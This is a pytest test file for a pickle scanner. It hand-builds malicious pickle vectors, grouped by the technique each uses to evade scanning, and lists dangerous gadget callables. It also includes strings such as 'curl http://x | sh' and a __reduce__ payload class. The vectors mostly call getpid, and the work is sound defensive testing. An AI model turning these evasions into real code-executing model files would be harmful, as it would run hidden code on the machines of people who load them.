"""One group per class of bypass: what evades other scanners must not be inert here.

Every vector is built opcode by opcode and would do nothing worse than ask for the process id if it were loaded.
"""

import pickle
import struct

import pytest

from modelward.artifact.pickle.streams import scan
from modelward.artifact.verdict import inspect_bytes


def text(value):
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def name(module, qualname):
    return text(module) + text(qualname) + b"\x93"


def old(module, qualname):
    return f"c{module}\n{qualname}\n".encode()


P4, P2 = b"\x80\x04", b"\x80\x02"
PID = name("os", "getpid") + b")R"

DANGEROUS = {
    # every opcode that calls
    "reduce": P4 + PID + b".",
    "global, protocol 0": old("os", "getpid") + b"(tR.",
    "global, protocol 2": P2 + old("os", "getpid") + b")R.",
    "inst": b"(S'x'\nios\nsystem\n.",
    "inst without arguments": b"(ios\ngetpid\n.",
    "obj": b"(" + old("os", "getpid") + b"S'x'\no.",
    "obj without arguments": b"(" + old("os", "getpid") + b"o.",
    "newobj": P4 + name("subprocess", "Popen") + text("true") + b"\x85\x81.",
    "newobj_ex": P4 + name("subprocess", "Popen") + text("true") + b"\x85}\x92.",
    "python 2 names": P2 + old("__builtin__", "eval") + b"X\x03\x00\x00\x001+1\x85R.",
    "python 2 modules": P2 + old("commands", "getoutput") + b"X\x01\x00\x00\x00x\x85R.",
    "python 2 strings as names": P4 + b"S'os'\nS'getpid'\n\x93)R.",
    "binary python 2 strings as names": P4 + b"U\x02os" + b"T\x06\x00\x00\x00getpid" + b"\x93)R.",
    "unicode line as name": P4 + b"Vos\nV\\u0067etpid\n\x93)R.",
    "list as arguments": P4 + name("os", "getpid") + b"]R.",
    "string as arguments": P4 + name("os", "getpid") + text("ab") + b"R.",
    # names
    "dotted name": P4 + name("collections", "_sys.modules") + b".",
    "dotted name to a call": P4 + name("pathlib", "os.getpid") + b")R.",
    "re-exported submodule": P4 + name("sklearn.utils._testing", "os.getpid") + b")R.",
    "underscored alias": P4 + name("random", "_os.getpid") + b")R.",
    "globals of a function": P4 + name("numpy", "mean.__globals__") + b".",
    "subclasses": P4 + name("builtins", "object.__subclasses__") + b")R.",
    "very long name": P4
    + b"\x8d"
    + struct.pack("<Q", 2000)
    + b"os." * 666
    + b"xx"
    + text("getpid")
    + b"\x93)R.",
    "submodule of a listed package": P4 + name("pip._internal.cli.main", "main") + b"]\x85R.",
    "computed name": P4 + text("os") + name("builtins", "str") + text("getpid") + b"\x85R\x93)R.",
    # memo and stack
    "name from the memo": P4 + text("getpid") + b"\x94" + text("os") + b"h\x00\x93)R.",
    "memo overwritten": P4
    + text("a")
    + b"q\x00"
    + text("os")
    + b"q\x00"
    + b"0h\x00"
    + text("getpid")
    + b"\x93)R.",
    "memo gap": P4 + text("os") + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text("getpid") + b"\x93)R.",
    "textual memo": P2 + b"Vos\np7\n0g7\nVgetpid\n\x93)R.",
    "duplicate": P4 + text("os") + b"2" + b"0" + text("getpid") + b"\x93)R.",
    "popped result": P4 + PID + b"0N.",
    "popped to the mark": P4 + b"(" + PID + b"1N.",
    "call inside containers": P4 + b"](K\x01}" + text("a") + PID + b"s" + b"e.",
    "call as dictionary key": P4 + b"}" + PID + b"K\x01s.",
    "call in a set": P4 + b"\x8f(" + PID + b"\x90.",
    "call in a frozenset": P4 + b"(" + PID + b"\x91.",
    "call as state": P4 + name("collections", "OrderedDict") + b")R" + PID + b"b.",
    "call as persistent id": P4 + PID + b"Q.",
    # state
    "state of a function": P4 + name("sklearn.metrics", "f") + b"}" + text("__code__") + b"Nsb.",
    "state of a class": P4 + name("collections", "OrderedDict") + b"}" + text("update") + b"Nsb.",
    "state of a module's class": P4 + name("numpy", "dtype") + b"}" + text("x") + b"Nsb.",
    "injected setstate": P4
    + name("sklearn.svm._classes", "SVC")
    + b")\x81}"
    + text("__setstate__")
    + name("collections", "OrderedDict")
    + b"sbK\x01b.",
    "injected setstate by slots": P4
    + name("sklearn.svm._classes", "SVC")
    + b")\x81N}"
    + text("__setstate__")
    + name("collections", "OrderedDict")
    + b"s\x86bK\x01b.",
    # callables that take callables
    "partial": P4 + name("functools", "partial") + name("os", "getpid") + b"\x85R)R.",
    "map": P4 + name("builtins", "map") + name("os", "getpid") + b"]\x86R.",
    "reduce of functools": P4 + name("functools", "reduce") + name("builtins", "int") + b"]\x86R.",
    "defaultdict": P4 + name("collections", "defaultdict") + name("os", "getpid") + b"\x85R.",
    "reconstructor": P4
    + name("copyreg", "_reconstructor")
    + name("subprocess", "Popen")
    + b"2"
    + text("true")
    + b"\x87R.",
    "newobj function": P4
    + name("copyreg", "__newobj__")
    + name("subprocess", "Popen")
    + text("true")
    + b"\x86R.",
    "torch rebuild": P4
    + name("torch._tensor", "_rebuild_from_type_v2")
    + b"("
    + name("os", "getpid")
    + name("builtins", "int")
    + b"))tR.",
    "getattr": P4
    + name("builtins", "getattr")
    + name("collections", "OrderedDict")
    + text("__init__")
    + b"\x86R.",
    "getattr by dangerous name": P4
    + name("builtins", "getattr")
    + name("mypkg", "thing")
    + text("system")
    + b"\x86R.",
    "attrgetter": P4 + name("operator", "attrgetter") + text("system") + b"\x85R.",
    "methodcaller": P4 + name("operator", "methodcaller") + text("read") + b"\x85R.",
    "extension registry": P4
    + name("copyreg", "add_extension")
    + text("os")
    + text("getpid")
    + b"K\x01\x87R.",
    # broken, several, trailing
    "broken after": P4 + PID + b"\xff",
    "truncated after": P4 + PID,
    "stack underflow after": P4 + PID + b"000.",
    "missing memo after": P4 + PID + b"h\x09.",
    "second stream": P4 + b"N." + P4 + PID + b".",
    "second stream, broken": P4 + b"N." + P4 + PID + b"\xff",
    "trailing data after": P4 + PID + b"." + b"\x00" * 20,
    # frames
    "frame too long": P4 + b"\x95" + struct.pack("<Q", 1 << 40) + PID + b".",
    "frame too short": P4 + b"\x95" + struct.pack("<Q", 3) + PID + b".",
    "frame in a frame": P4
    + b"\x95"
    + struct.pack("<Q", 60)
    + b"\x95"
    + struct.pack("<Q", 2)
    + PID
    + b"."
    + b" " * 60,
    # protocol 5
    "after a bytearray": b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc0" + PID + b".",
    "after a buffer": b"\x80\x05\x97\x98" + b"0" + PID + b".",
}
"""What -> bytes that must be dangerous, in `pickle.load`'s reading."""

GADGETS = [
    "posix.getpid",
    "nt.getpid",
    "subprocess.run",
    "subprocess.getoutput",
    "builtins.eval",
    "builtins.exec",
    "builtins.compile",
    "builtins.__import__",
    "builtins.open",
    "runpy.run_path",
    "importlib.import_module",
    "pty.spawn",
    "socket.socket",
    "shutil.rmtree",
    "sys.exit",
    "ctypes.CDLL",
    "webbrowser.open",
    "pip.main",
    "pip._internal.main",
    "torch.load",
    "torch.hub.load",
    "torch.utils.cpp_extension.load",
    "numpy.load",
    "numpy.f2py.crackfortran.getlincoef",
    "numpy.testing._private.utils.runstring",
    "pydoc.pipepager",
    "timeit.timeit",
    "timeit.main",
    "cProfile.run",
    "cProfile.runctx",
    "profile.Profile.run",
    "bdb.Bdb.run",
    "code.InteractiveInterpreter.runcode",
    "asyncio.unix_events._UnixSubprocessTransport._start",
    "asyncio.create_subprocess_shell",
    "types.CodeType",
    "types.FunctionType",
    "pickle.loads",
    "_pickle.loads",
    "marshal.loads",
    "joblib.load",
    "dill.loads",
    "cloudpickle.cloudpickle._make_function",
    "cloudpickle.loads",
    "logging.config.fileConfig",
    "logging.FileHandler",
    "idlelib.pyshell.ModifiedInterpreter.runcode",
    "lib2to3.pgen2.grammar.Grammar.loads",
    "doctest.debug_script",
    "ensurepip._run_pip",
    "trace.Trace.run",
    "code.interact",
    "codeop.compile_command",
    "zipimport.zipimporter",
    "distutils.spawn.spawn",
    "pdb.run",
    "signal.signal",
    "threading.Thread",
    "multiprocessing.util.spawnv_passfds",
    "torch.fx.graph_module.reduce_graph_module",
    "torch.jit.load",
    "torch.serialization.load",
    "pandas.read_pickle",
    "pandas.eval",
    "io.open",
    "uuid._get_command_stdout",
    "platform.popen",
    "tarfile.open",
    "urllib.request.urlopen",
    "requests.get",
    "http.client.HTTPSConnection",
    "some.unknown.module.popen",
    "some.package.exec_command",
    "another.check_output",
]

UNPROVEN = {
    "unknown class": P4 + name("mypkg.model", "Net") + b")\x81.",
    "unknown class with a state": P4 + name("mypkg.model", "Net") + b")\x81}" + text("a") + b"K\x01sb.",
    "unknown function": P4 + name("mypkg.model", "make") + b")R.",
    "mere reference": P4 + name("mypkg.model", "make") + b".",
    "extension code": P4 + b"\x82\x01.",
    "extension code, two bytes": P4 + b"\x83\x01\x00.",
    "extension code, four bytes": P4 + b"\x84\x01\x00\x00\x00.",
    "persistent id": P4 + text("x") + b"Q.",
    "persistent id, protocol 0": b"Px\n.",
    "outside buffer": b"\x80\x05\x97.",
    "wrong case": P4 + name("collections", "ordereddict") + b")R.",
    "attribute of an allowed class": P4 + name("collections", "OrderedDict.fromkeys") + b"]\x85R.",
    "allowed name in another module": P4 + name("collections.abc", "OrderedDict") + b")R.",
    "call of a value": P4 + name("numpy", "mean") + b"]\x85R.",
    "called result": P4 + name("collections", "OrderedDict") + b")R)R.",
    "partial called": P4 + name("functools", "partial") + name("builtins", "int") + b"\x85R)R.",
    "defaultdict of a function": P4 + name("collections", "defaultdict") + name("numpy", "mean") + b"\x85R.",
    "reconstructor with a foreign base": P4
    + name("copyreg", "_reconstructor")
    + name("sklearn.svm._classes", "SVC")
    + name("numpy", "ndarray")
    + b"N\x87R.",
    "object array as bytes": P4
    + name("numpy._core.multiarray", "_reconstruct")
    + name("numpy", "ndarray")
    + b"K\x00\x85"
    + b"C\x01b\x87R(K\x01K\x01\x85"
    + name("numpy", "dtype")
    + text("O8")
    + b"\x89\x88\x87R"
    + b"\x89C\x08\x00\x00\x00\x00\x00\x00\x00\x00tb.",
    "dtype that hides its objects": P4
    + name("numpy", "dtype")
    + text("O8")
    + b"\x89\x88\x87R(K\x03"
    + text("|")
    + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb.",
    "field outside its item": P4
    + name("numpy", "dtype")
    + text("V4")
    + b"\x89\x88\x87R(K\x03"
    + text("|")
    + b"N"
    + text("a")
    + b"\x85}"
    + text("a")
    + (name("numpy", "dtype") + text("f8") + b"\x89\x88\x87R")
    + b"K\x00\x86sK\x04K\x01K\x10tb.",
    "state with a method of a list": P4
    + name("collections", "deque")
    + b")R}"
    + text("append")
    + name("builtins", "len")
    + b"sb.",
    "truncated": P4 + text("abc"),
    "unknown opcode": P4 + b"\xff",
    "frame too short for an opcode": P4 + b"\x95" + struct.pack("<Q", 3) + text("abcdef") + b".",
    "frames overlap": P4 + b"\x95" + struct.pack("<Q", 14) + b"N0\x95" + struct.pack("<Q", 3) + b"N0N.",
}


@pytest.mark.parametrize("what", DANGEROUS)
def test_dangerous(what, level):
    assert level(DANGEROUS[what]) == "dangerous"


@pytest.mark.parametrize("what", DANGEROUS)
def test_dangerous_whatever_the_container_makes_of_it(what):
    report = inspect_bytes(DANGEROUS[what], what)
    assert report.verdict == "dangerous"
    assert report.findings[0].severity == "critical"


@pytest.mark.parametrize("path", GADGETS)
def test_known_gadgets_are_dangerous_when_called(path, level):
    module, _, qualname = path.rpartition(".")
    while module.rsplit(".", 1)[-1][:1].isupper() or module.rsplit(".", 1)[-1].startswith("_Unix"):
        module, _, parent = module.rpartition(".")
        qualname = f"{parent}.{qualname}"
    assert level(P4 + name(module, qualname) + text("x") + b"\x85R.") == "dangerous"
    if "." not in qualname:
        assert level(P2 + old(module, qualname) + b"K\x01\x85R.") == "dangerous"


@pytest.mark.parametrize("what", UNPROVEN)
def test_unproven(what, level):
    assert level(UNPROVEN[what]) == "unproven"


@pytest.mark.parametrize("what", UNPROVEN)
def test_unproven_is_never_inert_as_a_file(what):
    assert inspect_bytes(UNPROVEN[what], what).verdict == "unproven"


def test_the_call_is_reconstructed(calls):
    assert calls(P4 + name("os", "system") + text("id") + b"\x85R.") == ["os.system('id')"]
    assert calls(P4 + name("builtins", "eval") + text("1+1") + b"}\x86R.") == ["eval('1+1', {})"]


def test_the_unknown_is_named_with_its_position():
    event = scan(UNPROVEN["unknown class"]).events[0]
    assert event.rule == "pickle.unknown-name"
    assert "mypkg.model.Net" in event.message
    assert UNPROVEN["unknown class"][event.pos] in b"\x93\x81"


@pytest.mark.parametrize(
    "word", ["import os; os.system('id')", "curl http://x | sh", "/bin/sh", "__import__('os')"]
)
def test_an_unknown_callable_with_code_in_its_arguments_is_dangerous(word, level):
    assert level(P4 + name("never.heard.of", "it") + text(word) + b"\x85R.") == "dangerous"
    assert level(P4 + name("never.heard.of", "it") + text("weights") + b"\x85R.") == "unproven"


def test_names_are_renamed_as_the_unpickler_does_it(level):
    assert (
        level(
            P2
            + old("copy_reg", "_reconstructor")
            + old("__builtin__", "object")
            + old("__builtin__", "object")
            + b"N\x87R."
        )
        == "inert"
    )
    assert level(P2 + old("__builtin__", "set") + b"]\x85R.") == "inert"


def test_dotted_names_are_walked_from_protocol_4_on_only(level):
    known = ("zoneinfo", "ZoneInfo._unpickle")
    arguments = text("UTC") + b"K\x01\x86R."
    assert level(P4 + name(*known) + arguments) == "inert"
    assert level(b"\x80\x03" + name(*known) + arguments) == "unproven"


def test_a_million_opcodes_of_one_kind_are_one_event(level):
    data = P4 + (name("mypkg", "f") + b"0") * 20_000 + b"N."
    events = scan(data).events
    assert [(event.rule, event.times) for event in events] == [("pickle.unknown-name", 20_000)]


def test_findings_are_bounded_and_a_danger_behind_many_is_still_found():
    data = P4 + b"".join(name("mypkg", f"f{i}") + b"0" for i in range(3000)) + PID + b"."
    result = scan(data)
    assert len(result.events) < 1000
    assert result.dropped > 2000
    assert any(event.level == "dangerous" for event in result.events)


@pytest.mark.parametrize("depth", [100, 4000, 100_000])
def test_deep_nesting_neither_crashes_nor_hangs(depth, level):
    assert level(b"(" * depth + b"N.") in {"inert", "unproven"}
    assert level(P4 + b"]" * depth + b"a" * (depth - 1) + b".") == "inert"
    assert level(P4 + b")" + b"\x85" * depth + b".") == "inert"


def test_self_reference(level):
    assert level(P4 + b"]\x94h\x00a.") == "inert"
    cycle = P4 + b"}\x94" + text("a") + b"h\x00s" + name("mypkg", "f") + b"h\x00\x85R."
    assert level(cycle) == "unproven"


def test_a_container_changed_after_it_was_nested_is_judged_as_it_is(level):
    inner = b"]\x94]h\x00a\x94"  # memo 0 is in memo 1
    late = (
        P4 + inner + b"0h\x00" + name("builtins", "len") + b"a0" + name("random", "Random") + b")\x81h\x01b."
    )
    plain = P4 + inner + b"0h\x00K\x01a0" + name("random", "Random") + b")\x81h\x01b."
    assert level(late) == "unproven"
    assert level(plain) == "inert"


def test_real_pickles_of_gadgets_are_dangerous_in_every_protocol(level):
    import os
    import subprocess

    class Payload:
        def __init__(self, *call):
            self.call = call

        def __reduce__(self):
            return self.call[0], self.call[1:]

    for call in (
        (os.getpid,),
        (subprocess.run, ["true"]),
        (eval, "1+1"),
        (getattr, os.stat_result, "__init__"),
        (__import__, "os"),
    ):
        for protocol in range(6):
            assert level(pickle.dumps({"model": [1, Payload(*call)]}, protocol)) == "dangerous", call
